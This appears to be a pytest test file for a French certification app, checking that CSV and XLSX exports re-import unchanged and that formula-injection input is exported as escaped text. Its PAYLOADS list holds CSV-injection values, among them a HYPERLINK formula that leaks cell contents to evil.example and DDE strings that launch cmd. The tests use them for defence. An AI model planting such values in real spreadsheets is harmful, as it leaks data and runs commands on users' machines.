"""Exports can be imported again unchanged."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from certif.candidates.models import Candidate
from certif.domain.referential.schema import Referential
from certif.grading.models import Score
from certif.imports.candidates import import_candidates
from certif.imports.exports import export
from certif.imports.reading import read_table
from certif.imports.scores import import_scores
from tests.support.builders import score_rows, thesis_rows
from tests.support.files import SCORE_HEADER, write_csv

pytestmark = pytest.mark.django_db


@pytest.fixture
def graded(ccab: Referential, candidates: list[Candidate], tmp_path: Path) -> None:
    rows = (
        score_rows(ccab, "C001", "B1", "14.25")
        + thesis_rows(ccab, "C001")
        + score_rows(ccab, "C002", "B3", "13.8", part="pme")
    )
    import_scores(write_csv(tmp_path / "n.csv", SCORE_HEADER, rows), create_sessions=True)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_exported_scores_import_again_without_any_change(
    graded: None, tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"scores.{suffix}"
    rows = export("scores", path)
    assert rows == Score.objects.count()
    report = import_scores(path, create_sessions=True)
    assert (report.created, report.replaced, report.unchanged) == (0, 0, rows)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_exported_candidates_import_again_without_any_change(
    graded: None, tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"candidats.{suffix}"
    export("candidates", path)
    report = import_candidates(path)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)


def test_exported_csv_opens_in_a_french_spreadsheet(graded: None, tmp_path: Path) -> None:
    path = tmp_path / "scores.csv"
    export("scores", path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert (
        "candidat;session;bloc;partie;critere;valeur;evaluateur"
        in raw.decode("utf-8-sig").splitlines()[0]
    )
    assert re.search(r";B1Cr1;\d+,\d\d;", raw.decode("utf-8-sig"))


def test_exported_results_give_statuses_scores_and_explanation(
    graded: None, tmp_path: Path
) -> None:
    path = tmp_path / "resultats.csv"
    export("results", path)
    frame = read_table(path)
    first = frame.row(0, named=True)
    assert first["candidat"] == "C001"
    assert first["b1_statut"] == "validated"
    assert first["b1_note"] == "14,25"
    assert first["explication"].startswith("Certification non obtenue.")


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_filled_in_templates_import_as_they_are(
    ccab: Referential, version: object, tmp_path: Path, suffix: str
) -> None:
    from certif.imports.templates import write_templates

    write_templates(ccab, tmp_path)
    assert import_candidates(tmp_path / f"candidats.{suffix}").created == 2
    report = import_scores(tmp_path / f"notes.{suffix}", create_sessions=True)
    assert report.created > 0


# -- formulas never leave Certif live (OWASP « CSV injection ») ---------------------------------

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=déjà une apostrophe",
)


def _set_birth_name(name: str) -> None:
    # Written around the services on purpose: what a hostile name stored by any door becomes.
    Candidate.objects.filter(numero="C001").update(birth_name=name)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_export_writes_a_formula_like_name_as_text(
    candidates: list[Candidate], tmp_path: Path, payload: str
) -> None:
    _set_birth_name(payload)
    path = tmp_path / "candidats.csv"
    export("candidates", path)
    import csv

    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    cell = rows[1][1]
    assert cell == "'" + payload
    assert import_candidates(path).unchanged == 2


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_xlsx_export_writes_a_formula_like_name_as_a_text_cell(
    candidates: list[Candidate], tmp_path: Path, payload: str
) -> None:
    from openpyxl import load_workbook

    _set_birth_name(payload)
    path = tmp_path / "candidats.xlsx"
    export("candidates", path)
    cell = load_workbook(path).worksheets[0]["B2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + payload
    assert import_candidates(path).unchanged == 2


names = st.tuples(
    st.sampled_from(["", "=", "+", "-", "@", "'", "''=", "\uff1d", "-1+", "'-"]),
    st.text(alphabet=st.characters(categories=["L", "N", "P", "S"]), min_size=1, max_size=20),
).map("".join)


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(name=names, suffix=st.sampled_from(["csv", "xlsx"]))
def test_any_name_exported_imports_back_to_the_same_value(
    candidates: list[Candidate], tmp_path: Path, name: str, suffix: str
) -> None:
    _set_birth_name(name)
    path = tmp_path / f"candidats.{suffix}"
    export("candidates", path)
    assert read_table(path)["nom_naissance"].to_list()[0] == name
    report = import_candidates(path)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)
    assert Candidate.objects.get(numero="C001").birth_name == name
